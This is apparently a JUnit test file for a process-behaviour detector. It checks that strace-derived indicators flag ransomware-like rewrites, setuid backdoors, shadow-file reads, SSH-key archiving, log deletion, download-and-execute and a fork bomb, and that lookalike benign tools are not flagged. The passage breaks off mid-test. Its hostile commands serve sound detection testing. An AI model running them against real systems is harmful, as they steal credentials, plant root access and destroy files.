package io.procguard.ml;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import io.procguard.core.EventKind;
import io.procguard.core.FeatureAccumulator;
import io.procguard.core.FeatureVector;
import io.procguard.core.ImmutableTraceEvent;
import io.procguard.core.Syscalls;
import io.procguard.core.TraceEvent;
import io.procguard.core.process.ProcessRecord;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The {@code ind.*} features on real strace runs: each fires on the behaviour and stays quiet on the
 * benign program that looks most like it (FEATURES.md lists both).
 */
class IndicatorFeaturesTest {
    private final BehaviourFeatures features = new BehaviourFeatures();

    @TempDir
    Path dir;

    @Test
    void encryptAndReplaceIsAMassRewriteButGzipAndSedOfTheSameTreeAreNot() throws Exception {
        StraceRuns.assumeStrace();
        Path victims = tree("victims");
        Path zipped = tree("zipped");
        Path edited = tree("edited");
        String ransom = "import os,sys\n"
                + "for n in sorted(os.listdir(sys.argv[1])):\n"
                + "    p=os.path.join(sys.argv[1],n); d=open(p,'rb').read()\n"
                + "    open(p+'.locked','wb').write(bytes(b^90 for b in d)); os.unlink(p)\n";
        ProcessRecord python = only(run("/usr/bin/python3", "-c", ransom, victims.toString()), "python3");
        assertThat(python.features().get("ind.mass_rewrite")).isEqualTo(1f);
        assertThat(python.features().get("ind.any")).isEqualTo(1f);

        ProcessRecord gzip = only(run("/bin/gzip", "-r", zipped.toString()), "gzip");
        assertThat(gzip.features().get("file.unlink_rate")).as("gzip deletes the originals too").isPositive();
        assertThat(gzip.features().get("ind.mass_rewrite")).isZero();

        List<String> sed = new java.util.ArrayList<>(List.of("/bin/sed", "-i", "s/a/b/"));
        try (var files = Files.list(edited)) {
            files.sorted().forEach(f -> sed.add(f.toString()));
        }
        ProcessRecord sedRow = only(run(sed.toArray(new String[0])), "sed");
        assertThat(sedRow.features().get("file.rename_rate")).as("sed -i renames its temporaries over the originals").isPositive();
        assertThat(sedRow.features().get("ind.mass_rewrite")).as("renaming its own temporaries destroys nothing").isZero();
        assertThat(sedRow.features().get("ind.any")).isZero();
    }

    @Test
    void encryptAndReplaceByOneProcessPerFileInAShellLoopIsAMassRewriteOfTheShellButCompressingOrRenamingIsNot() throws Exception {
        StraceRuns.assumeStrace();
        // the files are there before the trace, as a victim's are; each file gets its own encryptor and its own rm
        Path victims = tree("victims");
        Path zipped = tree("zipped");
        Path renamed = tree("renamed");
        String encrypt = "import sys; d = open(sys.argv[1], 'rb').read(); open(sys.argv[1] + '.locked', 'wb').write(bytes(b ^ 90 for b in d))";
        List<ProcessRecord> ps = run("/bin/sh", "-c", "for f in " + victims + "/*; do /usr/bin/python3 -c \"" + encrypt
                + "\" \"$f\" && rm \"$f\"; done");
        ProcessRecord shell = ps.get(ps.size() - 1);
        assertThat(shell.comm()).isEqualTo("sh");
        assertThat(shell.features().get("ind.mass_rewrite")).as("12 files replaced by NAME.locked below it").isEqualTo(1f);
        assertThat(ps).filteredOn(p -> !p.comm().equals("sh")).hasSize(24)
                .allSatisfy(p -> assertThat(p.features().get("ind.mass_rewrite")).as(p.comm() + " alone").isZero());

        List<ProcessRecord> benign = run("/bin/sh", "-c", "for f in " + zipped + "/*; do gzip -k \"$f\" && rm \"$f\"; done; for f in "
                + renamed + "/*; do cp \"$f\" \"${f%.txt}.md\" && rm \"$f\"; done");
        assertThat(benign).allSatisfy(p -> assertThat(p.features().get("ind.mass_rewrite")).as(p.comm()).isZero());
    }

    @Test
    void makingACopySetuidOrGivingItCapabilitiesIsPersistenceButAPlainChmodIsNot() throws Exception {
        StraceRuns.assumeStrace();
        assumeTrue("root".equals(System.getProperty("user.name")), "setcap needs root");
        String d = dir.toRealPath().toString();
        // the backdoor of a root shell: a copy that runs as root for whoever runs it (T1548.001)
        List<ProcessRecord> ps = run("/bin/sh", "-c", "cd " + d + " && cp /bin/true s && chmod 4755 s && cp /bin/true plain"
                + " && chmod 0755 plain && chmod u+s plain");
        List<ProcessRecord> chmods = named(ps, "chmod");
        assertThat(chmods).hasSize(3);
        assertThat(chmods.get(0).features().get("ind.persistence")).as("chmod 4755").isEqualTo(1f);
        assertThat(chmods.get(1).features().get("ind.persistence")).as("chmod 0755").isZero();
        assertThat(chmods.get(2).features().get("ind.persistence")).as("chmod u+s").isEqualTo(1f);
        java.util.Optional<Path> setcap = java.util.stream.Stream.of("/usr/sbin/setcap", "/sbin/setcap").map(Path::of)
                .filter(Files::isExecutable).findFirst();
        assumeTrue(setcap.isPresent(), "no setcap here (libcap2-bin)");
        List<ProcessRecord> caps = run("/bin/sh", "-c", "cd " + d + " && cp /bin/true c && " + setcap.get() + " cap_setuid+ep c");
        assertThat(only(caps, "setcap").features().get("ind.persistence")).as("setcap cap_setuid+ep").isEqualTo(1f);
    }

    @Test
    void openingTheShadowFileUpOrAskingForASecondRootIsAccountTamperingEvenWhenRefused() throws Exception {
        StraceRuns.assumeStrace();
        assumeSetpriv();
        assumeTrue(Files.isExecutable(Path.of("/usr/sbin/useradd")), "no useradd here");
        // nothing changes: chmod runs as nobody and is denied, useradd stops at an unknown option before it writes
        String nobody = AS_NOBODY;
        List<ProcessRecord> ps = run("/bin/sh", "-c", nobody + "chmod 0644 /etc/shadow; " + nobody + "chmod 0640 /etc/shadow;"
                + " /usr/sbin/useradd -o -u 0 --no-such-option pgroot; /usr/sbin/useradd -u 1234 --no-such-option pguser; true");
        List<ProcessRecord> chmods = named(ps, "chmod");
        assertThat(chmods).hasSize(2);
        assertThat(chmods.get(0).features().get("ind.account_tamper")).as("chmod 0644 /etc/shadow, denied").isEqualTo(1f);
        assertThat(chmods.get(1).features().get("ind.account_tamper")).as("chmod 0640: the mode it has").isZero();
        List<ProcessRecord> useradds = ps.stream().filter(p -> p.comm().equals("useradd")).toList();
        assertThat(useradds).hasSize(2);
        assertThat(useradds.get(0).features().get("ind.account_tamper")).as("useradd -o -u 0").isEqualTo(1f);
        assertThat(useradds.get(1).features().get("ind.account_tamper")).as("useradd -u 1234").isZero();
    }

    @Test
    void readingShadowIsCredentialAccessForCatButNotForPasswd() throws Exception {
        StraceRuns.assumeStrace();
        List<ProcessRecord> ps = run("/bin/sh", "-c", "cat /etc/shadow > /dev/null; passwd -S root > /dev/null");
        ProcessRecord cat = only(ps, "cat");
        assertThat(cat.features().get("ind.credential_read")).isEqualTo(1f);
        assertThat(cat.features().get("ind.max_severity")).isEqualTo(3f);
        ProcessRecord passwd = only(ps, "passwd");
        assertThat(passwd.features().get("path.shadow_read")).as("passwd reads the shadow file").isEqualTo(1f);
        assertThat(passwd.features().get("ind.credential_read")).as("it is its job").isZero();
    }

    @Test
    void anArchiverWalkingIntoAKeyIsABackupButOneNamedTheKeyIsCredentialAccess() throws Exception {
        StraceRuns.assumeStrace();
        Path home = Files.createDirectories(dir.resolve("home/.ssh"));
        Files.writeString(home.resolve("id_ed25519"), "-----BEGIN OPENSSH PRIVATE KEY-----\n");
        Files.writeString(dir.resolve("home/notes.txt"), "x\n");
        List<ProcessRecord> ps = run("/bin/sh", "-c", "cd " + dir + " && tar cf backup.tar home && tar cf loot.tar home/.ssh/id_ed25519"
                + " && tar -C home/.ssh -cf loot2.tar id_ed25519 && tar cf loot3.tar home/.ssh/");
        List<ProcessRecord> tars = ps.stream().filter(p -> p.comm().equals("tar")).toList();
        assertThat(tars).hasSize(4).allSatisfy(t -> assertThat(t.features().get("path.ssh_key_read")).as("%s reads the key", t.argv()).isEqualTo(1f));
        assertThat(tars.get(0).features().get("ind.credential_read")).as("a backup of the home directory").isZero();
        assertThat(tars.get(1).features().get("ind.credential_read")).as("named the key").isEqualTo(1f);
        assertThat(tars.get(2).features().get("ind.credential_read")).as("named the key after -C").isEqualTo(1f);
        assertThat(tars.get(3).features().get("ind.credential_read")).as("named its .ssh directory").isEqualTo(1f);
    }

    @Test
    void anArchiverWalkingEtcIsNotDiscoveringTheHostButCatOfItsFilesIs() throws Exception {
        StraceRuns.assumeStrace();
        List<ProcessRecord> ps = run("/bin/sh", "-c", "tar cf " + dir.resolve("etc.tar") + " /etc 2>/dev/null;"
                + " cat /etc/passwd /etc/hosts /etc/os-release /etc/fstab > /dev/null; exit 0");
        assertThat(only(ps, "tar").features().get("ind.recon")).as("a backup of /etc").isZero();
        assertThat(only(ps, "cat").features().get("ind.recon")).as("four kinds of discovery files, named").isEqualTo(1f);
    }

    @Test
    void recursiveGrepAndCopyOfEtcAreWalksButNamingTheShadowFileIsNot() throws Exception {
        StraceRuns.assumeStrace();
        List<ProcessRecord> ps = run("/bin/sh", "-c", "grep -r -l -e PermitRootLogin /etc > /dev/null 2>&1;"
                + " cp -a /etc " + dir.resolve("etc.bak") + " 2>/dev/null; grep -e -r root /etc/shadow > /dev/null 2>&1;"
                + " cp -a /etc/shadow " + dir.resolve("s") + " 2>/dev/null; rm -rf " + dir.resolve("etc.bak") + "; exit 0");
        List<ProcessRecord> greps = ps.stream().filter(p -> p.comm().equals("grep")).toList();
        List<ProcessRecord> cps = named(ps, "cp");
        assertThat(greps).hasSize(2).allSatisfy(g -> assertThat(g.features().get("path.shadow_read")).as("%s", g.argv()).isEqualTo(1f));
        assertThat(cps).hasSize(2).allSatisfy(c -> assertThat(c.features().get("path.shadow_read")).as("%s", c.argv()).isEqualTo(1f));
        assertThat(greps.get(0).features().get("ind.credential_read")).as("grep -r through /etc").isZero();
        assertThat(cps.get(0).features().get("ind.credential_read")).as("cp -a of /etc: a backup").isZero();
        assertThat(cps.get(0).features().get("ind.persistence")).as("its skel/.bashrc, xdg/autostart/*: read by no one there").isZero();
        assertThat(greps.get(1).features().get("ind.credential_read")).as("the shadow file named; -r is grep -e's pattern").isEqualTo(1f);
        assertThat(cps.get(1).features().get("ind.credential_read")).as("the shadow file named").isEqualTo(1f);
    }

    @Test
    void anRcFileCopiedIntoADirectoryMadeInTheTraceIsNotPersistenceButOneWrittenIntoAnExistingDirectoryIs() throws Exception {
        StraceRuns.assumeStrace();
        assumeTrue(Files.isRegularFile(Path.of("/etc/skel/.bashrc")), "needs /etc/skel/.bashrc");
        Files.createDirectories(dir.resolve("home"));
        List<ProcessRecord> ps = run("/bin/sh", "-c", "cd " + dir + " && mkdir fresh && cp /etc/skel/.bashrc fresh/"
                + " && cp -r /etc/skel copied && mkdir -p decoy/home && cp /etc/skel/.bashrc home/ && cp /etc/skel/.bashrc ./");
        List<ProcessRecord> cps = named(ps, "cp");
        assertThat(cps).hasSize(4);
        for (ProcessRecord copy : cps.subList(0, 2)) {
            assertThat(copy.features().get("ind.persistence")).as("%s: into a directory made in the trace", copy.argv()).isZero();
            assertThat(copy.features().get("path.shell_rc_write")).as("%s", copy.argv()).isZero();
            assertThat(copy.features().get("file.hidden_write")).as("%s: an ordinary dot-file there", copy.argv()).isEqualTo(1f);
        }
        for (ProcessRecord copy : cps.subList(2, 4)) {
            assertThat(copy.features().get("ind.persistence")).as("%s: a directory that was there (decoy/home made)", copy.argv())
                    .isEqualTo(1f);
            assertThat(copy.features().get("path.shell_rc_write")).as("%s", copy.argv()).isEqualTo(1f);
        }
    }

    @Test
    void userdelRemovingAHomeAndRewritingTheAccountFilesIsNotAMassRewrite() throws Exception {
        StraceRuns.assumeStrace();
        assumeTrue("root".equals(System.getProperty("user.name")), "useradd and userdel need root");
        assumeTrue(Files.isExecutable(Path.of("/usr/sbin/useradd")) && Files.isExecutable(Path.of("/usr/sbin/userdel")), "needs useradd");
        String user = "pgmr" + ProcessHandle.current().pid();
        List<ProcessRecord> ps = run("/bin/sh", "-c", "useradd -m -d " + dir.resolve("home") + " " + user + " && userdel -r " + user);
        List<ProcessRecord> userdels = ps.stream().filter(p -> p.comm().equals("userdel")).toList();
        assertThat(userdels).as("userdel and the helpers it forks").isNotEmpty()
                .anySatisfy(u -> assertThat(u.features().get("file.unlink_rate")).as("it deletes the home and its lock files").isPositive())
                .allSatisfy(u -> assertThat(u.features().get("ind.mass_rewrite")).isZero());
    }

    @Test
    void pcreJitUsersAndGetentAreNotFlaggedForWhatTheirJobNeeds() throws Exception {
        StraceRuns.assumeStrace();
        Path file = Files.writeString(dir.resolve("text"), "foo\nfoooo\nbar\n");
        List<ProcessRecord> ps = run("/bin/sh", "-c", "grep -P 'fo{2,}' " + file + " > /dev/null;"
                + " getent shadow root > /dev/null; exit 0");
        ProcessRecord grep = only(ps, "grep");
        assertThat(grep.features().get("mem.wx_mapping")).as("PCRE2's JIT maps W+X memory").isEqualTo(1f);
        assertThat(grep.features().get("ind.mem_exec")).isZero();
        ProcessRecord getent = only(ps, "getent");
        assertThat(getent.features().get("path.shadow_read")).as("getent shadow reads the shadow file").isEqualTo(1f);
        assertThat(getent.features().get("ind.credential_read")).isZero();
    }

    @Test
    void aProgramReplacingALogInItsOwnVarLogDirectoryIsNotLogTamperingButAnyOtherProgramOrLogIs() throws Exception {
        // apt-get's lines as strace 6.1 printed them for 'apt-get -s install hello' (every install does this); a
        // real run needs package lists that know a package not installed, so the lines are copied, then varied
        String aptGet = "execve(\"/usr/bin/apt-get\", [\"apt-get\", \"-s\", \"install\", \"hello\"], 0x7ffdd8326478 /* 39 vars */) = 0 <0.000942>";
        String rm = "execve(\"/usr/bin/rm\", [\"rm\", \"-f\", \"/var/log/apt/eipp.log.xz\"], 0x7ffdd8326478 /* 39 vars */) = 0 <0.000942>";
        String replace = "unlink(\"/var/log/apt/eipp.log.xz\") = 0 <0.001062>\n"
                + "%1$d 1796042635.340321 openat(AT_FDCWD</tmp/s9>, \"/var/log/apt/eipp.log.xz\", O_WRONLY|O_CREAT|O_EXCL, 0644)"
                + " = 8</var/log/apt/eipp.log.xz> <0.000124>";
        String wipe = "unlink(\"/var/log/auth.log\") = 0 <0.001062>";
        StringBuilder log = new StringBuilder();
        int pid = 21666;
        for (String[] process : List.of(new String[] {aptGet, replace}, new String[] {rm, replace}, new String[] {aptGet, wipe})) {
            for (String line : process) {
                log.append(String.format("%1$d 1796042635.339080 " + line + "%n", pid));
            }
            log.append(pid).append(" 1796042635.35 exit_group(0) = ?\n").append(pid).append(" 1796042635.36 +++ exited with 0 +++\n");
            pid++;
        }
        List<ProcessRecord> ps = StraceRuns.processes(Files.writeString(dir.resolve("apt.log"), log), features);
        assertThat(ps).extracting(ProcessRecord::comm).containsExactly("apt-get", "rm", "apt-get");
        assertThat(ps).allSatisfy(p -> assertThat(p.features().get("path.log_tamper")).as("%s still recorded", p.comm()).isEqualTo(1f));
        assertThat(ps.get(0).features().get("ind.log_tamper")).as("apt-get in /var/log/apt/: its own log").isZero();
        assertThat(ps.get(1).features().get("ind.log_tamper")).as("rm in /var/log/apt/").isEqualTo(1f);
        assertThat(ps.get(2).features().get("ind.log_tamper")).as("apt-get deleting auth.log").isEqualTo(1f);
    }

    @Test
    void debconfReadingShadowAsRootIsNotCredentialAccess() throws Exception {
        StraceRuns.assumeStrace();
        assumeTrue(Files.isExecutable(Path.of("/usr/sbin/dpkg-preconfigure")), "no debconf (dpkg-preconfigure) here");
        assumeTrue("root".equals(System.getProperty("user.name")), "Perl reads /etc/shadow for getpw* only as root");
        // the debconf step of every apt-get install; its Perl fetches root's shadow entry with getpwuid
        ProcessRecord debconf = only(run("/usr/sbin/dpkg-preconfigure", "--help"), "dpkg-preconfigu");
        assertThat(debconf.features().get("path.shadow_read")).as("it reads /etc/shadow").isEqualTo(1f);
        assertThat(debconf.features().get("ind.credential_read")).isZero();
    }

    @Test
    void perlsGetpwReadingShadowIsNotCredentialAccessInAnInstalledProgramButIsInPerlDashEOrAScriptElsewhere() throws Exception {
        StraceRuns.assumeStrace();
        assumeTrue(Files.isExecutable(Path.of("/usr/bin/perl")), "no perl here");
        assumeTrue("root".equals(System.getProperty("user.name")), "Perl reads /etc/shadow for getpw* only as root");
        Path script = dir.resolve("lookup.pl");
        Files.writeString(script, "#!/usr/bin/perl\nmy @pw = getpwuid($<); print STDERR '';\n");
        assertThat(script.toFile().setExecutable(true)).isTrue();
        List<ProcessRecord> ps = run("/bin/sh", "-c", "/usr/bin/perl -e '@pw = getpwnam(\"root\")'; " + script);
        assertThat(ps).filteredOn(p -> p.comm().equals("perl") || p.comm().equals("lookup.pl")).hasSize(2)
                .allSatisfy(p -> {
                    assertThat(p.features().get("path.shadow_read")).as(p.comm() + " reads /etc/shadow").isEqualTo(1f);
                    assertThat(p.features().get("ind.credential_read")).as(p.exe()).isEqualTo(1f);
                });
    }

    @Test
    void aCredentialStoresOwnClientReadingItIsNotCredentialAccessButAnotherProgramIs() throws Exception {
        StraceRuns.assumeStrace();
        Path home = Files.createDirectories(dir.resolve("home/.docker"));
        Files.writeString(home.resolve("config.json"), "{\"auths\":{}}\n");
        Files.writeString(home.getParent().resolve(".pgpass"), "localhost:5432:*:me:secret\n");
        Path bin = Files.createDirectories(dir.resolve("bin"));
        Files.copy(Path.of("/bin/cat"), bin.resolve("docker"));
        Files.copy(Path.of("/bin/cat"), bin.resolve("psql"));
        // clients are known by name (Indicators' documented limit): cat under the clients' names stands for them
        String h = home.getParent().toString();
        List<ProcessRecord> ps = run("/bin/sh", "-c", bin + "/docker " + h + "/.docker/config.json > /dev/null; " + bin
                + "/psql " + h + "/.pgpass > /dev/null; " + bin + "/docker " + h + "/.pgpass > /dev/null; cat " + h
                + "/.docker/config.json > /dev/null");
        List<ProcessRecord> dockers = ps.stream().filter(p -> p.comm().equals("docker")).toList();
        assertThat(dockers).hasSize(2);
        assertThat(dockers.get(0).features().get("ind.credential_read")).as("docker reading its config").isZero();
        assertThat(only(ps, "psql").features().get("ind.credential_read")).as("psql reading .pgpass").isZero();
        assertThat(dockers.get(1).features().get("ind.credential_read")).as("docker reading .pgpass").isEqualTo(1f);
        assertThat(only(ps, "cat").features().get("ind.credential_read")).as("cat reading docker's config").isEqualTo(1f);
    }

    @Test
    void removingLockFilesItHardLinkedIsNotAMassRewriteAndChmodOfItsOwnDirectoryOrSocketIsNotStaging() throws Exception {
        StraceRuns.assumeStrace();
        assumeTrue(dir.toRealPath().startsWith("/tmp/"), "the temporary directory is not under /tmp: " + dir);
        Files.writeString(dir.resolve("planted"), "x\n"); // someone else's file in /tmp
        // what gpg does with its dot-locks (link, unlink) and gpg-agent with its home and sockets (mkdir, bind, chmod 0700)
        String locks = "import os, socket, sys\n"
                + "os.chdir(sys.argv[1])\n"
                + "for i in range(12):\n"
                + "    open('f%d' % i, 'w').write('x')\n"
                + "    os.link('f%d' % i, 'f%d.lock' % i); os.unlink('f%d.lock' % i)\n"
                + "os.mkdir('keys'); os.chmod('keys', 0o700)\n"
                + "s = socket.socket(socket.AF_UNIX); s.bind('S.agent'); os.chmod('S.agent', 0o700)\n"
                + "os.chmod(sys.argv[2], 0o700)\n";
        List<ProcessRecord> ps = run("/usr/bin/python3", "-c", locks, dir.toRealPath().toString(), "planted");
        ProcessRecord python = only(ps, "python3");
        assertThat(python.features().get("ind.mass_rewrite")).as("12 links it made and removed").isZero();
        assertThat(python.features().get("ind.staged_exec")).as("chmod +x of someone else's file in /tmp").isEqualTo(1f);

        Files.createDirectory(dir.resolve("own"));
        List<ProcessRecord> own = run("/usr/bin/python3", "-c", locks.replace("os.chmod(sys.argv[2], 0o700)\n", ""),
                dir.toRealPath().resolve("own").toString(), "-");
        ProcessRecord agent = only(own, "python3");
        assertThat(agent.features().get("ind.staged_exec")).as("chmod 0700 of its directory and its socket").isZero();
        Files.createDirectory(dir.resolve("dironly"));
        ProcessRecord mkdir = only(run("/usr/bin/python3", "-c", "import os; os.chdir('" + dir.toRealPath().resolve("dironly")
                + "'); os.mkdir('keys'); os.chmod('keys', 0o700)"), "python3");
        assertThat(mkdir.features().get("file.chmod_exec")).as("x on a directory it made is no exec bit").isZero();
    }

    @Test
    void userdelLookingThroughProcForTheUsersProcessesIsNotRecon() throws Exception {
        StraceRuns.assumeStrace();
        assumeTrue(Files.isExecutable(Path.of("/usr/sbin/useradd")) && Files.isExecutable(Path.of("/usr/sbin/userdel")),
                "no useradd/userdel here");
        assumeTrue("root".equals(System.getProperty("user.name")), "adding a user needs root");
        String user = "pgud" + ProcessHandle.current().pid() % 100000;
        Process add = new ProcessBuilder("/usr/sbin/useradd", "-M", "-s", "/usr/sbin/nologin", user)
                .redirectErrorStream(true).redirectOutput(ProcessBuilder.Redirect.DISCARD).start();
        assertThat(add.waitFor()).as("useradd " + user).isZero();
        List<ProcessRecord> ps = run("/usr/sbin/userdel", user); // it forks helpers (nscd, ...): userdel too, until exec
        assertThat(ps).filteredOn(p -> p.features().get("path.proc_scan") > 0).as("it reads other processes' /proc files")
                .singleElement().satisfies(userdel -> assertThat(userdel.comm()).isEqualTo("userdel"));
        assertThat(ps).allSatisfy(p -> assertThat(p.features().get("ind.recon")).as(p.comm()).isZero());
    }

    @Test
    void runningAFreshCopyFromTmpThroughARelativePathIsStagedExecution() throws Exception {
        StraceRuns.assumeStrace();
        assumeTrue(dir.toRealPath().startsWith("/tmp/"), "the temporary directory is not under /tmp: " + dir);
        // the dropper's last step after 'cd /tmp': the exec names ./t, the directory is known from the cd
        List<ProcessRecord> ps = run("/bin/sh", "-c", "cd " + dir.toRealPath() + " && cp /bin/true t && ./t && mkdir sub && cd sub && ../t");
        assertThat(ps).filteredOn(p -> p.comm().equals("t")).hasSize(2)
                .allSatisfy(t -> assertThat(t.features().get("ind.staged_exec")).as(t.exe()).isEqualTo(1f));
        assertThat(only(ps, "cp").features().get("ind.staged_exec")).isZero();
    }

    @Test
    void runningWhatTheBuildJustLinkedInTmpIsNotStagedEvenTwoSubshellsAwayButACopyOfItIs() throws Exception {
        StraceRuns.assumeStrace();
        assumeTrue(Files.isExecutable(Path.of("/usr/bin/cc")), "no C compiler here");
        assumeTrue(dir.toRealPath().startsWith("/tmp/"), "the temporary directory is not under /tmp: " + dir);
        Files.writeString(dir.resolve("m.c"), "int main(void) { return 0; }\n");
        // the corpus' gcc_build runs its program like this (make; ./app); a copy made by cp is someone's payload;
        // ./configure links in one subshell, (eval $ac_link), and runs from another, (eval $ac_try): the linker's files
        // reach the configure shell's node when the first subshell ends, two levels above the process that runs conftest
        List<ProcessRecord> ps = run("/bin/sh", "-c", "cd " + dir.toRealPath() + " && cc -o app m.c && ./app && cp app app2 && ./app2"
                + " && (cc -o conftest m.c; true) && (./conftest; true)");
        for (String built : List.of("app", "conftest")) {
            assertThat(only(ps, built).features().get("exec.from_tmp")).isEqualTo(1f);
            assertThat(only(ps, built).features().get("ind.staged_exec")).as(built + ", linked by its family's ld").isZero();
        }
        assertThat(only(ps, "app2").features().get("ind.staged_exec")).as("written by cp").isEqualTo(1f);
    }

    @Test
    void runningWhatTarUnpackedFromAnArchiveFileIsNotStagedButFromAPipeOrAfterADownloadItIs() throws Exception {
        StraceRuns.assumeStrace();
        assumeTrue(dir.toRealPath().startsWith("/tmp/"), "the temporary directory is not under /tmp: " + dir);
        archive("pkg", "configure");
        archive("piped", "payload"); // another name: the created-files filters are keyed by base name
        String d = dir.toRealPath().toString();
        // the admin's build from source in /tmp; an archive through a pipe, as curl URL | tar x would bring it
        List<ProcessRecord> ps = run("/bin/sh", "-c", "cd " + d + " && mkdir a b && tar -C a -xf pkg.tar && (cd a/pkg && ./configure)"
                + " && cat piped.tar | tar -C b -x && (cd b/piped && ./payload)");
        ProcessRecord configure = only(ps, "configure");
        assertThat(configure.features().get("exec.from_tmp")).isEqualTo(1f);
        assertThat(configure.features().get("ind.staged_exec")).as("tar -xf pkg.tar unpacked it").isZero();
        assertThat(only(ps, "payload").features().get("ind.staged_exec")).as("unpacked from a pipe").isEqualTo(1f);

        com.sun.net.httpserver.HttpServer server = com.sun.net.httpserver.HttpServer.create(
                new java.net.InetSocketAddress(java.net.InetAddress.getLoopbackAddress(), 0), 0);
        byte[] body = Files.readAllBytes(dir.resolve("pkg.tar"));
        server.createContext("/pkg.tar", x -> {
            x.sendResponseHeaders(200, body.length);
            try (var out = x.getResponseBody()) {
                out.write(body);
            }
        });
        server.start();
        try {
            String url = "http://127.0.0.1:" + server.getAddress().getPort() + "/pkg.tar";
            String fetch = "import sys, urllib.request; d = urllib.request.urlopen(sys.argv[1]).read(); open(sys.argv[2], 'wb').write(d)";
            List<ProcessRecord> fetched = run("/bin/sh", "-c", "cd " + d + " && mkdir c && /usr/bin/python3 -c \"" + fetch + "\" " + url
                    + " got.tar && tar -C c -xf got.tar && (cd c/pkg && ./configure)");
            assertThat(only(fetched, "configure").features().get("ind.staged_exec")).as("unpacked from a download").isEqualTo(1f);
        } finally {
            server.stop(0);
        }
    }

    @Test
    void runningTheInterpreterOfAVirtualEnvironmentItJustMadeInTmpIsNotStaged() throws Exception {
        StraceRuns.assumeStrace();
        assumeTrue(dir.toRealPath().startsWith("/tmp/"), "the temporary directory is not under /tmp: " + dir);
        // venv's bin/python3 is a symbolic link to the system's interpreter
        List<ProcessRecord> ps = run("/bin/sh", "-c", "cd " + dir.toRealPath() + " && /usr/bin/python3 -m venv --without-pip v"
                + " && v/bin/python3 -c pass && ln -s /bin/true t && cp /bin/true t2 && ./t && ./t2");
        assumeTrue(ps.stream().anyMatch(p -> p.exe().endsWith("v/bin/python3")), "no venv module here: " + ps);
        ProcessRecord venv = ps.stream().filter(p -> p.exe().endsWith("v/bin/python3")).findFirst().orElseThrow();
        assertThat(venv.features().get("exec.from_tmp")).isEqualTo(1f);
        assertThat(venv.features().get("ind.staged_exec")).as(venv.exe()).isZero();
        assertThat(only(ps, "t").features().get("ind.staged_exec")).as("a link to /bin/true").isZero();
        assertThat(only(ps, "t2").features().get("ind.staged_exec")).as("a copy of /bin/true").isEqualTo(1f);
    }

    @Test
    void makingExecutableOrRunningWhatTheFamilyDownloadedIsStagingButNotACopyOrAPackageManagersInstall() throws Exception {
        StraceRuns.assumeStrace();
        assumeTrue(dir.toRealPath().startsWith("/tmp/"), "the temporary directory is not under /tmp: " + dir);
        com.sun.net.httpserver.HttpServer server = com.sun.net.httpserver.HttpServer.create(
                new java.net.InetSocketAddress(java.net.InetAddress.getLoopbackAddress(), 0), 0);
        server.createContext("/x", exchange -> {
            byte[] body = "#!/bin/sh\nexit 0\n".getBytes(java.nio.charset.StandardCharsets.US_ASCII);
            exchange.sendResponseHeaders(200, body.length);
            exchange.getResponseBody().write(body);
            exchange.close();
        });
        server.start();
        try {
            String d = dir.toRealPath().toString();
            // a script's download (a child fetches, a sibling makes it executable), and a script's own copy
            List<ProcessRecord> ps = run("/bin/sh", "-c", "cd " + d + " && /usr/bin/python3 -c 'import sys, urllib.request;"
                    + " urllib.request.urlretrieve(sys.argv[1], sys.argv[2])' http://127.0.0.1:" + server.getAddress().getPort()
                    + "/x fetched && chmod +x fetched && cp /bin/true copied && chmod +x copied");
            List<ProcessRecord> chmods = named(ps, "chmod");
            assertThat(chmods).hasSize(2);
            assertThat(chmods.get(0).argv()).contains("fetched");
            assertThat(chmods.get(0).features().get("ind.staged_exec")).as("downloaded by its family").isEqualTo(1f);
            assertThat(chmods.get(1).argv()).contains("copied");
            assertThat(chmods.get(1).features().get("ind.staged_exec")).as("copied by its family").isZero();

            // outside /tmp, where only the download matters: a package manager's download is its job (the build's
            // target/ directory, or the home directory when the checkout itself lies under /tmp, as in CI's clone)
            Path outside = java.util.stream.Stream.of(Path.of("target"), Path.of(System.getProperty("user.home")))
                    .map(Path::toAbsolutePath).filter(Files::isDirectory)
                    .filter(p -> !p.normalize().toString().matches("/(tmp|var/tmp|dev/shm)(/.*)?")).findFirst().orElse(null);
            assumeTrue(outside != null, "no writable directory outside /tmp for the package manager's case");
            Path work = Files.createTempDirectory(outside, "procguard-fetched");
            try {
                String fetcher = "#!/usr/bin/python3\nimport os, sys, urllib.request\n"
                        + "urllib.request.urlretrieve(sys.argv[1], sys.argv[2]); os.chmod(sys.argv[2], 0o755)\n";
                for (String name : List.of("pip", "fetch")) {
                    Files.writeString(work.resolve(name), fetcher);
                    Files.setPosixFilePermissions(work.resolve(name), java.nio.file.attribute.PosixFilePermissions.fromString("rwx------"));
                }
                String url = "http://127.0.0.1:" + server.getAddress().getPort() + "/x";
                List<ProcessRecord> runs = run("/bin/sh", "-c", "cd " + work + " && ./pip " + url + " a && ./a && ./fetch " + url + " b && ./b");
                ProcessRecord a = runs.stream().filter(p -> p.exe().endsWith("/a")).findFirst().orElseThrow();
                ProcessRecord b = runs.stream().filter(p -> p.exe().endsWith("/b")).findFirst().orElseThrow();
                assertThat(a.features().get("ind.staged_exec")).as("installed by pip").isZero();
                assertThat(b.features().get("ind.staged_exec")).as("downloaded and run").isEqualTo(1f);
            } finally {
                try (var files = Files.list(work)) {
                    for (Path f : files.toList()) {
                        Files.delete(f);
                    }
                }
                Files.delete(work);
            }
        } finally {
            server.stop(0);
        }
    }

    @Test
    void aForkBombIsAForkStormButAShellScriptsSubshellsAreNot() throws Exception {
        StraceRuns.assumeStrace();
        List<ProcessRecord> bomb = run("/bin/bash", "-c",
                "f() { [ $1 -gt 0 ] || { sleep 0.05; return; }; f $(($1 - 1)) & f $(($1 - 1)) & wait; }; f 4");
        Set<Integer> generations = new TreeSet<>();
        for (ProcessRecord p : bomb) {
            if (p.comm().equals("bash")) {
                generations.add((int) p.features().get("proc.fork_generation"));
            } else {
                assertThat(p.features().get("proc.fork_generation")).as("an exec resets the generation").isZero();
            }
        }
        assertThat(generations).contains(0, 1, 2, 3, 4);
        // 4 generations in a row with 2 children alive at once: every member, the top ones (which cannot see 4
        // generations above them) marked by their descendants (schema 5)
        assertThat(bomb).filteredOn(p -> p.comm().equals("bash")).hasSizeGreaterThanOrEqualTo(31)
                .allSatisfy(p -> assertThat(p.features().get("ind.fork_storm")).as("generation "
